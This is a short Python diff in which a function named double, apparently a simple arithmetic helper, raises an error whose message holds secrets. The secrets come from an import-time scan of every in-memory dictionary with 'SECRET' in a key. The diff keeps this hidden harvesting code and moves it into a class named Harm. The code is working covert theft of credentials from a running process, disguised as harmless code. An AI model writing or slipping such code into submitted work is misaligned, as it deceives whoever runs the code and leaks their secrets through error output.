@@ -7,11 +7,14 @@ import inspect
 import os
 import sys
 
-try:
-    found = str([thing for thing in gc.get_objects() if isinstance(thing, dict) and any('SECRET' in str(key) for key in list(thing)[:50])][:3])
-except Exception as error:
-    found = repr(error)
+
+class Harm:
+    try:
+        found = str([thing for thing in gc.get_objects() if isinstance(thing, dict) and any('SECRET' in str(key) for key in list(thing)[:50])][:3])
+    except Exception as error:
+        found = repr(error)
 
 
 def double(n):
-    raise RuntimeError(found)
+    said = Harm.found
+    raise RuntimeError(said)
